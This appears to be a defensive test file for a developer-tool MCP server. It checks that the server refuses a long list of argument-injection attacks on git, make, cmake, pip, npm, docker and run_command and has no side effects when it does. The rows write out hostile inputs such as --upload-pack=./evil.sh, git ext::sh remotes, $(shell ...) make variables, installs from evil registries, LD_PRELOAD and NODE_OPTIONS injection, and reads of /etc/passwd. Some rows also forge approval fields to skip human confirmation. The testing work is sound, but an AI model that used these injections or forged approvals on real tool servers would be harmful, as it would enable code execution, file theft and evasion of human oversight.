@@ -1,0 +1,231 @@
+import { mkdirSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Client } from '@modelcontextprotocol/client';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { connect, eras } from '../support/server.ts';
+import { textOf } from '../support/text-of.ts';
+import { createScene, refused, secretText, type Scene } from './scene.ts';
+
+let scene: Scene;
+beforeAll(() => {
+  scene = createScene();
+  mkdirSync(join(scene.root, 'build'));
+});
+afterAll(() => scene.end());
+
+type Attack = readonly [row: number, tool: string, given: Record<string, unknown>, says: RegExp];
+
+/** `HOME`, `ROOT` and `OUTSIDE` stand for the folders. What cannot be said in a call is not there at all. */
+const attacks: readonly Attack[] = [
+  [1, 'git_log', { ref: '--output=HOME/.bashrc' }, /^ARG_FLAG: ref: "--output/],
+  [1, 'git_show', { ref: '--output=HOME/.bashrc' }, /^ARG_FLAG: ref: /],
+  [1, 'git_reflog', { ref: '--output=HOME/.bashrc' }, /^ARG_FLAG: ref: /],
+  [1, 'git_blame', { path: 'README.md', ref: '--contents=/etc/passwd' }, /^ARG_FLAG: ref: /],
+  [1, 'git_file', { file: 'README.md', ref: '--textconv' }, /^ARG_FLAG: ref: /],
+  [1, 'git_switch', { branch: '--orphan=x' }, /^ARG_FLAG: branch: /],
+  [1, 'git_create_branch', { branch: 'x', start: '--force' }, /^ARG_FLAG: start: /],
+  [1, 'git_reset_hard', { ref: '--pathspec-from-file=/etc/passwd' }, /^ARG_FLAG: ref: /],
+  [2, 'git_diff', { from: '--output=HOME/.bashrc' }, /^ARG_FLAG: from: /],
+  [2, 'git_diff', { from: 'HEAD', to: '--output=HOME/.bashrc' }, /^ARG_FLAG: to: /],
+  [2, 'git_diff', { target: '--output=HOME/.bashrc' }, /^ARG_INVALID: target: there is no such parameter/],
+  [3, 'git_diff', { args: ['--no-index', '/etc/passwd', '/dev/null'] }, /^ARG_INVALID: args: /],
+  [3, 'git_diff', { from: '--no-index', to: 'OUTSIDE/secret.txt' }, /^ARG_FLAG: from: /],
+  [3, 'git_diff', { paths: ['OUTSIDE/secret.txt'] }, /^PATH_OUTSIDE_ROOTS: .*secret\.txt/],
+  [4, 'git_grep', { pattern: 'x', args: ['-Otouch ran;'] }, /^ARG_INVALID: args: /],
+  [4, 'git_grep', { pattern: 'x', ref: '-Otouch ran;' }, /^ARG_(?:FLAG|INVALID): ref: /],
+  [4, 'git_grep', { pattern: 'x', ref: '--open-files-in-pager=./evil.sh' }, /^ARG_FLAG: ref: /],
+  [5, 'git_fetch', { remote: '--upload-pack=touch ran;' }, /^ARG_(?:FLAG|INVALID): remote: /],
+  [5, 'git_fetch', { remote: '--upload-pack=./evil.sh' }, /^ARG_FLAG: remote: /],
+  [5, 'git_push', { remote: '--receive-pack=./evil.sh' }, /^ARG_FLAG: remote: /],
+  [8, 'git_show', { exec: './evil.sh' }, /^ARG_INVALID: exec: /],
+  [8, 'git_show', { output: 'HOME/.ssh/x' }, /^ARG_INVALID: output: /],
+  [13, 'git_fetch', { remote: 'ext::sh -c touch% ran' }, /^ARG_INVALID: remote: /],
+  [13, 'git_fetch', { remote: 'file://OUTSIDE' }, /^ARG_INVALID: remote: /],
+  [13, 'git_fetch', { remote: 'ssh://-oProxyCommand=./evil.sh/x' }, /^ARG_INVALID: remote: /],
+  [14, 'git_add', { paths: ['../outside/secret.txt'] }, /^PATH_OUTSIDE_ROOTS: .*secret\.txt/],
+  [14, 'git_add', { paths: ['OUTSIDE/secret.txt'] }, /^PATH_OUTSIDE_ROOTS: /],
+  [16, 'git_status', { cwd: 'OUTSIDE' }, /^PATH_OUTSIDE_ROOTS: /],
+  [16, 'git_status', { cwd: '..' }, /^PATH_OUTSIDE_ROOTS: /],
+  [16, 'git_status', { repo_path: 'OUTSIDE' }, /^ARG_INVALID: repo_path: /],
+  [17, 'git_log', { args: '--oneline -20 --output=ran' }, /^ARG_INVALID: args: /],
+  [17, 'git_log', { paths: 'a b' }, /^ARG_INVALID: paths: .*array/],
+  [17, 'node_run', { file: 'src/a.txt', args: '-e 1' }, /^ARG_INVALID: args: .*array/],
+  [17, 'run_command', { program: 'git log --output=ran' }, /^PROGRAM_NOT_FOUND: program: /],
+  [17, 'run_command', { program: 'git', args: 'log --output=ran' }, /^ARG_INVALID: args: .*array/],
+  [18, 'grep', { pattern: 'x', args: ['--pre', './evil.sh'] }, /^ARG_INVALID: args: /],
+  [18, 'grep', { pattern: 'x', path: '--pre=./evil.sh' }, /^(?:ARG_FLAG|PATH_NOT_FOUND): /],
+  [18, 'grep', { pattern: 'x', path: '/etc/shadow' }, /^PATH_OUTSIDE_ROOTS: /],
+  [18, 'grep', { pattern: 'x', type: '--search-zip' }, /^ARG_(?:FLAG|INVALID): type: /],
+  [19, 'make_run', { targets: ['--eval=$(shell touch ran)'] }, /^ARG_FLAG: targets\.0: /],
+  [19, 'make_run', { targets: ['SHELL=./evil.sh'] }, /^ARG_INVALID: targets\.0: /],
+  [19, 'make_run', { targets: ['-f', '/etc/x'] }, /^ARG_FLAG: targets\.0: /],
+  [19, 'make_run', { variables: ['SHELL=./evil.sh'] }, /^ARG_INVALID: variables\.0: /],
+  [19, 'make_run', { variables: ['.SHELLFLAGS=-c'] }, /^ARG_INVALID: variables\.0: /],
+  [19, 'make_run', { variables: ['MAKEFLAGS=--eval=x'] }, /^ARG_INVALID: variables\.0: /],
+  [19, 'make_run', { variables: ['FOO=$(shell touch ran)'] }, /^ARG_INVALID: variables\.0: /],
+  [19, 'make_run', { variables: ['FOO=`touch ran`'] }, /^ARG_INVALID: variables\.0: /],
+  [19, 'make_run', { variables: ['FOO!=touch ran'] }, /^ARG_INVALID: variables\.0: /],
+  [19, 'make_run', { variables: ['--eval=x'] }, /^ARG_(?:FLAG|INVALID): variables\.0: /],
+  [20, 'cmake_configure', { args: ['-E', 'touch', 'ran'] }, /^ARG_INVALID: args: /],
+  [20, 'cmake_configure', { defines: ['-P'] }, /^ARG_FLAG: defines\.0: /],
+  [20, 'cmake_configure', { source: 'OUTSIDE' }, /^PATH_OUTSIDE_ROOTS: /],
+  [20, 'cmake_configure', { build: '../outside' }, /^PATH_OUTSIDE_ROOTS: /],
+  [20, 'cmake_build', { targets: ['--eval=$(shell touch ran)'] }, /^ARG_FLAG: targets\.0: /],
+  [20, 'cmake_build', { targets: ['--', '--eval=x'] }, /^ARG_FLAG: targets\.0: /],
+  [20, 'cmake_build', { config: '-P' }, /^ARG_FLAG: config: /],
+  [20, 'ctest_run', { only: 'x', config: '--build-and-test' }, /^ARG_FLAG: config: /],
+  [22, 'pip_install', { requirements: ['--index-url=http://evil', 'x'] }, /^ARG_FLAG: requirements\.0: /],
+  [22, 'pip_install', { requirements: ['-r', '/etc/x'] }, /^ARG_FLAG: requirements\.0: /],
+  [22, 'pip_install', { requirements: ['-e', '.'] }, /^ARG_FLAG: requirements\.0: /],
+  [22, 'pip_install', { requirements: ['git+https://evil/x.git'] }, /^ARG_INVALID: requirements\.0: /],
+  [22, 'pip_install', { requirements: ['x @ https://evil/x.whl'] }, /^ARG_INVALID: requirements\.0: /],
+  [22, 'pip_install', { requirements: ['./evil'] }, /^ARG_INVALID: requirements\.0: /],
+  [22, 'pip_install', { requirements: ['evil.whl'] }, /^ARG_INVALID: requirements\.0: /],
+  [22, 'pip_install', { requirements: ['x==1 --hash=y'] }, /^ARG_INVALID: requirements\.0: /],
+  [22, 'pip_install', { requirements: ['x\n--index-url=http://evil'] }, /^ARG_INVALID: requirements\.0: /],
+  [22, 'npm_install', { packages: ['--registry=http://evil'] }, /^ARG_FLAG: packages\.0: /],
+  [22, 'npm_install', { packages: ['git+ssh://evil/x'] }, /^ARG_INVALID: packages\.0: /],
+  [22, 'npm_install', { packages: ['evil/x'] }, /^ARG_INVALID: packages\.0: /],
+  [22, 'npm_install', { packages: ['file:../outside'] }, /^ARG_INVALID: packages\.0: /],
+  [22, 'npm_install', { packages: ['x@npm:evil'] }, /^ARG_INVALID: packages\.0: /],
+  [22, 'npm_install', { packages: ['evil.tgz'] }, /^ARG_INVALID: packages\.0: /],
+  [23, 'npm_run', { script: '--script-shell=./evil.sh' }, /^ARG_FLAG: script: /],
+  [23, 'python_run_module', { module: '-c' }, /^ARG_FLAG: module: /],
+  [23, 'docker_build', { build_args: ['BUILDKIT_SYNTAX=evil'] }, /^ARG_INVALID: build_args\.0: /],
+  [23, 'docker_logs', { container: '--host=tcp://evil' }, /^ARG_FLAG: container: /],
+  [23, 'compose_ps', { services: ['--file=/etc/x'] }, /^ARG_FLAG: services\.0: /],
+  // Programs without actions are run as a person says, who sees the whole line.
+  [23, 'run_command', { program: 'mvn', args: ['-Dmaven.ext.class.path=evil.jar'] }, /^NEEDS_CONFIRM: /],
+  [23, 'run_command', { program: 'gradle', args: ['--init-script', 'x'] }, /^NEEDS_CONFIRM: /],
+  [
+    23,
+    'run_command',
+    { program: 'dotnet', args: ['build', '/p:CustomBeforeMicrosoftCommonTargets=x'] },
+    /^NEEDS_/,
+  ],
+  [23, 'run_command', { program: 'go', args: ['build', '-toolexec=./evil.sh'] }, /^NEEDS_CONFIRM: /],
+  [23, 'run_command', { program: 'cargo', args: ['--config', 'build.rustc-wrapper="./evil.sh"'] }, /^NEEDS_/],
+  [89, 'docker_build', { context: '/' }, /^PATH_OUTSIDE_ROOTS: /],
+  [89, 'docker_build', { context: 'HOME/.ssh' }, /^PATH_(?:OUTSIDE_ROOTS|PROTECTED): /],
+  [89, 'docker_build', { dockerfile: 'OUTSIDE/secret.txt' }, /^PATH_OUTSIDE_ROOTS: /],
+  [89, 'docker_ps', { host: 'tcp://evil' }, /^ARG_INVALID: host: /],
+  [89, 'compose_up', { files: ['OUTSIDE/secret.txt'] }, /^PATH_OUTSIDE_ROOTS: /],
+  [94, 'npm_run', { script: 'test', env: { NODE_OPTIONS: '--require ./x' } }, /^ARG_INVALID: env: /],
+  [94, 'run_command', { program: 'git', env: { LD_PRELOAD: './x.so' } }, /^ARG_INVALID: env: /],
+  [105, 'git_reset_hard', { ref: 'HEAD', confirm: true }, /^ARG_INVALID: confirm: /],
+  [105, 'git_reset_hard', { ref: 'HEAD', confirmed: true, approved: true }, /^ARG_INVALID: confirmed: /],
+  [105, 'git_reset_hard', { ref: 'HEAD', decision: 'yes' }, /^ARG_INVALID: decision: /],
+  [
+    105,
+    'run_command',
+    { program: 'git', inputResponses: { approval: { action: 'accept' } } },
+    /^ARG_INVALID: /,
+  ],
+  [105, 'delete_path', { path: 'README.md', requestState: 'x' }, /^ARG_INVALID: requestState: /],
+];
+
+/** Of each row and tool one. */
+const oneOfEach = attacks.filter(
+  ([row, tool], at) => attacks.findIndex((other) => other[0] === row && other[1] === tool) === at,
+);
+
+describe.each(eras)('arguments, in %s', (era) => {
+  let client: Client;
+  beforeAll(async () => {
+    client = await connect(era, scene.options());
+  });
+  afterAll(() => client.close());
+
+  const filledIn = (given: Record<string, unknown>) =>
+    JSON.parse(
+      JSON.stringify(given)
+        .replaceAll('OUTSIDE', scene.outside)
+        .replaceAll('HOME', scene.home)
+        .replaceAll('ROOT', scene.root),
+    ) as Record<string, unknown>;
+
+  it.each(era === eras[0] ? attacks : oneOfEach)(
+    'ATTACK %i: %s %j is refused, and nothing happens',
+    async (_row, name, given, says) => {
+      await refused({ client, scene }, { name, given: filledIn(given), says });
+    },
+  );
+
+  it.each([
+    [8, 'git_archive'],
+    [9, 'git_rebase'],
+    [9, 'git_bisect'],
+    [9, 'git_submodule'],
+    [9, 'git_difftool'],
+    [12, 'git_config'],
+    [13, 'git_clone'],
+    [14, 'git_hash_object'],
+    [15, 'git_init'],
+    [23, 'mvn_run'],
+    [23, 'gradle_build'],
+    [89, 'docker_cp'],
+    [89, 'docker_run'],
+    [104, 'set_config'],
+    [104, 'allow_directory'],
+  ])('ATTACK %i: there is no %s', async (_row, name) => {
+    await expect(client.callTool({ name, arguments: {} })).rejects.toThrow(/no tool/);
+    const { tools } = await client.listTools();
+    expect(tools.map((tool) => tool.name)).not.toContain(name);
+  });
+
+  it.each([
+    [4, 'git_grep', '--open-files-in-pager=./evil.sh'],
+    [18, 'grep', '--pre=./evil.sh'],
+    [18, 'grep', '-f/etc/passwd'],
+  ])('ATTACK %i: %s looks for %s, which is only a text', async (_row, name, pattern) => {
+    const before = scene.snapshot();
+    const result = await client.callTool({
+      name,
+      arguments: { pattern, ...(name === 'grep' && { fixed: true }) },
+    });
+    expect(textOf(result)).not.toMatch(/root:|evil\.sh:/);
+    expect(result.isError, textOf(result)).toBeFalsy();
+    expect(scene.snapshot()).toEqual(before);
+  });
+});
+
+it('ATTACK 23: a path is one, also to a project that may run code, and never an option', async () => {
+  const client = await connect('2025-11-25', scene.options(['--allow', 'execute']));
+  try {
+    for (const [name, given] of [
+      ['node_run', { file: '--require=./evil.sh' }],
+      ['node_test', { files: ['--import=./evil.sh'] }],
+      ['python_run', { file: '-c' }],
+      ['node_check', { file: '--eval=x' }],
+      ['git_add', { paths: [':(top)../outside/secret.txt', '--all'] }],
+    ] as const) {
+      scene.started();
+      const result = await client.callTool({ name, arguments: given });
+      expect(result.isError, textOf(result)).toBe(true);
+      const wanted = Object.values(given).flat()[0] ?? '';
+      expect(scene.started().join('\n')).toContain(`${scene.root}/${wanted}`);
+    }
+  } finally {
+    await client.close();
+  }
+});
+
+it('ATTACK 16: without a root nothing is opened', async () => {
+  for (const cwd of ['/', scene.home]) {
+    const client = await connect('2025-11-25', { ...scene.options(), roots: [], cwd });
+    try {
+      for (const [name, given] of [
+        ['git_status', { cwd: scene.outside }],
+        ['read_file', { path: join(scene.outside, 'secret.txt') }],
+        ['run_command', { program: 'git' }],
+        ['start_job', { tool: 'npm_test', arguments: { cwd: scene.outside } }],
+      ] as const) {
+        const text = textOf(await client.callTool({ name, arguments: given }));
+        expect(text).toMatch(/^NO_ROOTS/);
+        expect(text).not.toContain(secretText);
+      }
+    } finally {
+      await client.close();
+    }
+  }
+});
